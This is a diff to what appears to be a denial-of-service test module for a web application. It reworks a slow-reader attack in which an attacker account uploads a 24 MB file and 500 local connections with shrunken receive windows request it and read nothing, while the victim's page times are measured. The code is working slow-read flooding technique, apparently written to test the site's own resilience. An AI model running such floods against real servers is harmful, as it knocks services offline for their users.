@@ -18,7 +18,7 @@ from attacks.attack import Ground, Succeeded, attack
 from attacks.browser import Browser
 from attacks.exports import make
 from attacks.files import upload
-from attacks.instance import HOST, Site
+from attacks.site import HOST, Site
 
 GROUP = "denial"
 #: Others' pages may take so many times their usual time, and never more than so many seconds once.
@@ -70,8 +70,10 @@ def judged(usual: float, taken: Sequence[float]) -> str:
 
 
 @contextmanager
-def _trickling(port: int, count: int, begin: bytes, drop: bytes) -> Iterator[list[socket.socket]]:
-    """Hold connections open that begin a request and go on by a few bytes every second."""
+def _trickling(
+    port: int, count: int, begin: bytes, drop: bytes, *, window: int = 0
+) -> Iterator[list[socket.socket]]:
+    """Hold connections open that begin a request and go on by a few bytes every second; `window` is what each takes unread."""
     held: list[socket.socket] = []
     over = Event()
 
@@ -85,7 +87,11 @@ def _trickling(port: int, count: int, begin: bytes, drop: bytes) -> Iterator[lis
 
     try:
         for _number in range(count):
-            each = socket.create_connection(("127.0.0.1", port), timeout=5)
+            each = socket.socket()
+            each.settimeout(5)
+            if window:
+                each.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
+            each.connect(("127.0.0.1", port))
             each.sendall(begin)
             each.setblocking(False)
             held.append(each)
@@ -117,13 +123,47 @@ def slow_bodies(ground: Ground) -> str:
     return _slow(ground, head, b"a")
 
 
-@attack(GROUP, "500 connections ask and read nothing")
+#: More than a kernel and the web keep of one answer for a client that reads nothing.
+_LARGE_BYTES = 24 * 1024 * 1024
+#: A download waits for its client; a small window of the client's own makes it wait at once.
+_WINDOW_BYTES = 4096
+
+
+def _large_file(ground: Ground) -> str:
+    """Keep a file of the attacker's that is as large as one may be; return the address of its download, once it comes."""
+    line = f"Teks biasa {ground.canary}.\n".encode()
+    answer, _seconds = upload(ground.attacker, "besar-sekali.txt", line * (_LARGE_BYTES // len(line)))
+    path = f"{answer.location}download/"
+    if not answer.location.startswith("/evidence/"):
+        raise RuntimeError(f"the file was not kept: {answer.status}")
+    limit = time.monotonic() + 60
+    while ground.attacker.get(path).status != 200:
+        if time.monotonic() > limit:
+            raise RuntimeError("the file cannot be downloaded")
+        time.sleep(1)
+    return path
+
+
+@attack(GROUP, "500 connections ask for a file of 24 MB, and read nothing of it")
 def slow_readers(ground: Ground) -> str:
-    return _slow(
-        ground,
-        "GET /static/fonts/inter.woff2 HTTP/1.1\r\nHost: HOST\r\nX-Forwarded-Proto: https\r\n\r\n" * 3,
-        b"",
-    )
+    path, usual = _large_file(ground), _usual(ground)
+    cookies = "; ".join(f"{name}={value}" for name, value in ground.attacker.cookies.items())
+    head = f"GET {path} HTTP/1.1\r\nHost: {HOST}:{ground.site.tls_port}\r\nX-Forwarded-Proto: https\r\nCookie: {cookies}\r\n\r\n"
+    with _trickling(ground.site.port, SLOW_CONNECTIONS, head.encode(), b"", window=_WINDOW_BYTES) as held:
+        time.sleep(5)
+        said = judged(usual, _times(ground.victim, _long_enough))
+        begun = sum(_has_begun(each) for each in held)
+    if not begun:
+        raise RuntimeError("no connection got even the head of the file")
+    return f"{SLOW_CONNECTIONS} connections straight to the web process, {begun} of them with the file begun; {said}"
+
+
+def _has_begun(connection: socket.socket) -> bool:
+    """Whether the head of an answer with the file waits there, unread."""
+    try:
+        return connection.recv(15, socket.MSG_PEEK).startswith(b"HTTP/1.1 200")
+    except OSError:
+        return False
 
 
 @attack(GROUP, "500 connections are opened and say nothing")
